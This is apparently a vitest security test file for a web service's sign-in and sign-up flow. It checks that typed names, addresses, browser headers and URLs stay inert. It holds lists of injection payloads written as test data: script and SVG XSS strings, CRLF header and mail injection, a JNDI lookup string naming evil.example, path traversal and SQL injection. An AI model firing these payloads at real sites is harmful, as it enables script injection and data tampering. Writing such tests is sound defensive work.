import { afterAll, beforeAll, expect, test } from 'vitest'
import { usernameLookup } from '../../src/operations/usernames.ts'
import { newId } from '../../src/secrets/random.ts'
import { insertAccount } from '../../src/storage/account.ts'
import { knownPerson, makeAccount, password, signIn } from '../support/accounts.ts'
import { cookieNamed, newPerson, type Page } from '../support/person.ts'
import { openRawServer } from '../support/raw-server.ts'
import { openWorld, publicUrl, type World } from '../support/world.ts'

/** Markup and line breaks through everything that a person can say of themselves (S28, S29). */
let world: World

beforeAll(async () => {
  world = await openWorld()
})
afterAll(() => world.close())

const markup = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onfocus='alert(1)' autofocus='",
  '</title><style>*{display:none}</style>',
  '<a href="https://evil.example">click</a>',
  '[click](https://evil.example)',
  '{{7*7}}\u0024{7*7}<%= 7*7 %>',
  '<!--',
  ']]><x>',
  '&lt;b&gt;&#60;b&#62;',
  '\u202eevil\u202c\u2066x',
  '<svg/onload=alert(1)>',
  '%3Cscript%3E',
  '\u2028\u2029<b>',
]
const breaks = [
  '\r\nBcc: evil@evil.example',
  '\nSet-Cookie: a=b',
  '\r\n\r\n<b>',
  '\r\n.\r\nMAIL FROM:<x@y>',
  '\0',
  '\u0085x',
  '\u2028To: x@y',
]

/** The tags of a page, by name and attributes: what was typed may add none. */
const tagsOf = (html: string): string[] =>
  [...html.replace(/=\\?"[^"]*"/g, '').matchAll(/<\/?[a-zA-Z!][^>]*>/g)].map(([tag]) => tag)

function expectInert(page: Page, plain: Page, typed: string): void {
  expect(page.status).toBeLessThan(500)
  expect(tagsOf(page.text), typed).toEqual(tagsOf(plain.text))
  for (const [name, value] of page.headers) expect(`${name}${value}`).not.toMatch(/evil|[\r\n]/)
  expect(page.headers.get('content-security-policy')).toContain("default-src 'none'")
}

test('what is typed for a name is shown again as text, whatever it is', async () => {
  const person = newPerson(world)
  const again = async (path: string, field: string, typed: string) => {
    await person.open(path)
    return person.submit({ [field]: typed })
  }
  for (const [path, field] of [
    ['/signin', 'username'],
    ['/signup', 'email'],
  ] as const) {
    const plain = await again(path, field, 'plain')
    for (const typed of [...markup, ...breaks]) expectInert(await again(path, field, typed), plain, typed)
  }
})

test('what is typed at any step is shown again as text or not at all', async () => {
  const account = await makeAccount(world, 'steps@example.org')
  const steps: [string, string[]][] = [
    ['password', ['password']],
    ['item', ['choose']],
    ['code', ['code']],
    ['address', ['confirm']],
  ]
  for (const typed of [...markup, ...breaks]) {
    const person = newPerson(world)
    await signIn(person, account.email)
    const form = person.form('item')
    for (const [field] of steps) {
      const answer = await person.request(form.action, {
        fields: { ...form.fields, act: typed, [field]: typed, item: typed, revision: typed },
      })
      expect(answer.status).toBeLessThan(500)
      expect(await answer.text()).not.toContain('<script>alert')
    }
    const chosen = await person.submit({ item: typed })
    expect(chosen.refusal).toBe('choice_missing')
    expect(tagsOf(chosen.text).filter((tag) => /^<(script|img|svg|style|x|b|a )/.test(tag))).toEqual(
      tagsOf((await person.submit({ item: 'plain' })).text).filter((tag) =>
        /^<(script|img|svg|style|x|b|a )/.test(tag),
      ),
    )
  }
})

test('an address with every sign that one may have is inert on pages and in messages', async () => {
  const odd = "o'&=?`{|}~!#$%*+/^_-x@example.org"
  const plainMail = await mailOfSignUp('plain@example.org')
  const person = newPerson(world)
  await person.open('/signup')
  const waiting = await person.submit({ email: odd })
  expect(waiting.refusal).toBeUndefined()
  const plain = newPerson(world)
  await plain.open('/signup')
  await plain.submit({ email: 'plainer@example.org' })
  await world.carried()
  await Promise.all([person.open(waiting.path), plain.open(plain.page.path)])
  expect(tagsOf(person.page.text)).toEqual(tagsOf(plain.page.text))
  const [mail] = await world.inbox(odd)
  expect(mail).toBeDefined()
  expect(tagsOf(calm(mail, odd))).toEqual(tagsOf(calm(plainMail, 'plain@example.org')))
  await person.submit({ code: await world.readCode(odd) })
  await person.submit({ password })
  expect(person.page.path).toMatch(/^\/account\//)
  expect(person.page.text).toContain('o&#39;&amp;=?`{|}~!#$%*+/^_-x@example.org')
})

test('even a name that no form would take is text on the pages of its account', async () => {
  for (const [nth, name] of markup.entries()) {
    const plain = await makeAccount(world, `plain${nth}@example.org`)
    const account = { id: newId(), email: `${nth}${name}@example.org`, itemId: newId() }
    await insertAccount(world.sql, {
      id: account.id,
      locale: 'en',
      passwordHash: 'none',
      username: account.email,
      usernameLookup: usernameLookup(`held${nth}@example.org`),
      itemId: account.itemId,
      provenAt: world.now,
      passwordSetAt: world.now,
    })
    await world.sql`update account set password_hash = (select password_hash from account where id = ${plain.id}) where id = ${account.id}`
    const [holder, other] = [await knownPerson(world, account), await knownPerson(world, plain)]
    await signIn(holder, `held${nth}@example.org`)
    await signIn(other, plain.email)
    expect(tagsOf(holder.page.text), name).toEqual(tagsOf(other.page.text))
  }
})

test('what a browser calls itself, and the languages it asks for, change no page and no message but for the language', async () => {
  const plain = await mailOfSignUp('calm@example.org')
  const headers = [
    ...markup.map((text) => ({ 'User-Agent': latin(text), 'Accept-Language': latin(text) })),
    { 'User-Agent': 'x'.repeat(6000), 'Accept-Language': 'en,'.repeat(2000) },
    { 'User-Agent': '', 'Accept-Language': '../../locales/en' },
    { 'User-Agent': '\u00ff\u00fe', 'Accept-Language': '__proto__,constructor;q=9' },
    { 'User-Agent': '\u0024{jndi:ldap://evil.example}', 'Accept-Language': '*;q=NaN' },
  ]
  for (const [nth, given] of headers.entries()) {
    const email = `calm${nth}@example.org`
    const mail = await mailOfSignUp(email, given)
    expect(calm(mail, email)).toBe(calm(plain, 'calm@example.org'))
  }
})

test('a code mail says when and from where it was asked for: in our words, whatever the browser says', async () => {
  const windows = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0'
  const mail = await mailOfSignUp('where@example.org', { 'User-Agent': windows })
  const where = mail?.text.match(/^From: (.*)$/m)?.[1]
  expect(where).toMatch(/^Firefox on Windows · 10\.\d+\.\d+\.7$/)
  for (const [nth, text] of [...markup, ...breaks].entries()) {
    const given = { 'User-Agent': latin(`${windows} ${text}`).replace(/[\r\n\0]/g, ' ') }
    const odd = await mailOfSignUp(`where${nth}@example.org`, given)
    expect(odd?.text.match(/^From: (.*) · /m)?.[1]).toBe('Firefox on Windows')
  }
})

test('times in a mail are in the zone that the reader has told, and in UTC where what was told is none', async () => {
  const zoned = async (email: string, zone: string) => {
    const mail = await mailOfSignUp(email, {}, [[cookieNamed('time_zone'), zone]])
    return mail?.text.match(/^Asked for: (.*)$/m)?.[1]
  }
  expect(await zoned('tokyo@example.org', 'Asia/Tokyo')).toMatch(/18:\d\d GMT\+9$/)
  for (const [nth, zone] of ['Mars/Olympus', '<script>', "'; --", 'x'.repeat(300)].entries()) {
    expect(await zoned(`zone${nth}@example.org`, encodeURIComponent(zone))).toMatch(/9:\d\d UTC$/)
  }
})

test('a session keeps what its browser calls itself, cut short, and signs in whatever that is', async () => {
  const account = await makeAccount(world, 'agents@example.org')
  for (const agent of [
    'x'.repeat(6000),
    latin('<script>'),
    '\u00ff'.repeat(500),
    "'; drop table session; --",
  ]) {
    const person = await knownPerson(world, account)
    await person.open('/signin')
    await person.submit({ username: account.email })
    const { action, fields } = person.form('password')
    const done = await person.request(action, {
      fields: { ...fields, password },
      headers: { 'User-Agent': agent },
    })
    expect(done.status).toBe(303)
    const [row] = await world.sql<{ user_agent: string }>`
      select user_agent from session where account_id = ${account.id} and browser = ${person.browser}`
    expect(row?.user_agent).toBe(agent.slice(0, 400))
  }
})

test('a request line or header with a break in it makes no second one', async () => {
  const server = await openRawServer(world)
  for (const target of [
    '/signin?return_to=/x%0d%0aSet-Cookie:%20evil=1',
    '/?language=ja%0d%0aevil:%201',
    '/account/%0d%0aevil:1',
    '/signin/%0aevil',
    '/administrator/%0d%0aevil',
    '/report/%0d%0aevil:1',
    '/%E2%80%A8evil:1',
    '/help/errors/%0d%0aevil',
  ]) {
    const answer = await server.get(target, { Host: 'codes.harbour.test', Accept: 'text/html' })
    expect(answer, target).not.toMatch(/^HTTP\/1.1 5/)
    expect(answer.split('\r\n\r\n')[0], target).not.toMatch(/^(evil|set-cookie: evil)/im)
  }
  await server.close()
})

/** The mail of a sign-up, with the given headers on its request. */
async function mailOfSignUp(
  email: string,
  headers: Record<string, string> = {},
  cookies: [string, string][] = [],
) {
  const person = newPerson(world, { cookies })
  await person.open('/signup')
  const { action, fields } = person.form('email')
  const begun = await person.request(action, { fields: { ...fields, email }, headers })
  expect(begun.status).toBe(303)
  expect(new URL(begun.headers.get('location') ?? '', publicUrl).origin).toBe(publicUrl)
  const mails = await world.inbox(email)
  expect(mails).toHaveLength(1)
  return mails[0]
}

const calm = (mail: object | undefined, email: string): string =>
  JSON.stringify({ ...mail, id: '', code: '' })
    .replaceAll(email, 'TO')
    .replace(/\b10\.\d+\.\d+\.7\b/g, 'ADDRESS')
    .replace(/\/report\/[\w-]{43}/g, '/report/TOKEN')
    .replace(/\d{3}( |&nbsp;|\u00a0)?\d{3}/g, 'CODE')
    .replace(/\b[2-8a-fhjkmnp-tv-z]{3}-[2-8a-fhjkmnp-tv-z]{2}\b/g, 'REFERENCE')
    .replace(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, 'ID')

/** As its bytes stand in a header. */
const latin = (text: string): string =>
  Buffer.from(text)
    .toString('latin1')
    .replace(/[\x00-\x1f]/g, '')
